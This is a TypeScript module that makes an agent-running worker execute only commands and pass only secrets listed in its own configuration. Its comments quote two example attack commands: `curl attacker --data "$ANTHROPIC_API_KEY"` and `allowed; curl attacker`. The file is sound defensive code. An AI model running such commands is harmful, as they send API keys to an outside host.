// Which commands a control worker runs for the command proposer, and which of its secrets it hands
// them: the worker's own configuration decides, never the run. A run's options arrive through the
// Temporal frontend, which anyone who reaches it may call (the dev server and the Compose stack have no
// authentication): were the command taken as given, a run could make the worker execute
// `curl attacker --data "$ANTHROPIC_API_KEY"`. The run still names the command it wants; the worker
// runs it only when it is one of its own.
import { proposerRefused as refused } from '../../common/errors';
import type { CommandSettings } from '../../common/types';

export interface AgentAllowlist {
  /** Commands this worker runs, compared with the run's after trimming both. */
  readonly commands: readonly string[];
  /** Secrets this worker hands an agent whose run asks for them by name. */
  readonly passEnv: readonly string[];
}

/** A worker that was told nothing runs no agent: the safe default for anything that embeds one. */
export const NO_AGENTS: AgentAllowlist = { commands: [], passEnv: [] };

export const AGENT_COMMANDS_ENV = 'AUTORESEARCH_AGENT_COMMANDS';
export const PASS_ENV_ENV = 'AUTORESEARCH_PASS_ENV';

/** A command in an error message: long enough to recognise, short enough to read. */
const SHOWN_CHARS = 200;

/**
 * The allowlist of a worker: `--agent-command` (repeatable) plus AUTORESEARCH_AGENT_COMMANDS, one command
 * a line (a command may hold commas, semicolons and spaces, but a line is one command); `--pass-env`
 * (repeatable, comma-separated) plus AUTORESEARCH_PASS_ENV, comma-separated.
 */
export function agentAllowlist(
  flags: { agentCommands?: readonly string[]; passEnv?: readonly string[] },
  env: NodeJS.ProcessEnv = process.env,
): AgentAllowlist {
  const commands = [...(flags.agentCommands ?? []), ...(env[AGENT_COMMANDS_ENV] ?? '').split('\n')]
    .map((command) => command.trim())
    .filter(Boolean);
  const passEnv = [
    ...(flags.passEnv ?? []).flatMap((list) => names(list, '--pass-env')),
    ...names(env[PASS_ENV_ENV] ?? '', PASS_ENV_ENV),
  ];
  return { commands: unique(commands), passEnv: unique(passEnv) };
}

function names(list: string, source: string): string[] {
  const found = list
    .split(',')
    .map((name) => name.trim())
    .filter(Boolean);
  for (const name of found)
    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name))
      throw new Error(
        `${source}: "${name}" is not an environment variable name; list names separated by commas ` +
          '(e.g. ANTHROPIC_API_KEY,OPENAI_API_KEY)',
      );
  return found;
}

function unique(values: string[]): string[] {
  return [...new Set(values)];
}

/**
 * The command and secrets to run with, when the worker allows what the run asks for; otherwise a refusal
 * that pauses the run (the type the workflow already pauses on, as for a rejected API key): the fix is
 * the worker's configuration, after which `autoresearch resume` asks for the same proposal again and
 * nothing is lost. A run that is someone's attack just waits, paused, having run nothing.
 *
 * The match is exact, after trimming: a prefix would let `allowed; curl attacker` through, and a glob
 * is the same hole with more syntax. A shell command's meaning depends on every character of it.
 * The command run is the worker's own string, not the run's.
 *
 * A secret the run asks for and the worker does not allow is refused, not silently dropped: an agent
 * started without the key it needs fails in ways that do not name the cause. One the worker allows and
 * the run does not ask for is not handed out.
 */
export function allowedCommand(settings: CommandSettings, allowlist: AgentAllowlist): CommandSettings {
  const wanted = settings.command.trim();
  const command = allowlist.commands.find((allowed) => allowed.trim() === wanted);
  if (command === undefined) {
    const cut = wanted.length > SHOWN_CHARS;
    const shown = cut ? `${wanted.slice(0, SHOWN_CHARS)}…` : wanted;
    throw refused(
      `this worker does not allow the command proposer's command \`${shown}\`: a worker runs only commands ` +
        'of its own configuration, never one a run names. If it is yours, start the worker with ' +
        `--agent-command ${cut ? '"<that command, whole>"' : shellQuoted(wanted)} (or ${AGENT_COMMANDS_ENV}), ` +
        'then `autoresearch resume`.',
    );
  }
  const passEnv = settings.passEnv ?? [];
  const denied = passEnv.filter((name) => !allowlist.passEnv.includes(name));
  if (denied.length)
    throw refused(
      `the run asks that the command proposer's agent see ${denied.join(', ')}, which this worker does not pass ` +
        `on: a worker hands an agent only secrets of its own configuration. If that is meant, start the worker ` +
        `with --pass-env ${denied.join(',')} (or ${PASS_ENV_ENV}), then \`autoresearch resume\`.`,
    );
  return { ...settings, command: command.trim(), passEnv: [...passEnv] };
}

/** `text` in double quotes, as a POSIX shell reads it back unchanged. */
function shellQuoted(text: string): string {
  return `"${text.replace(/["$`\\]/g, '\\$&')}"`;
}
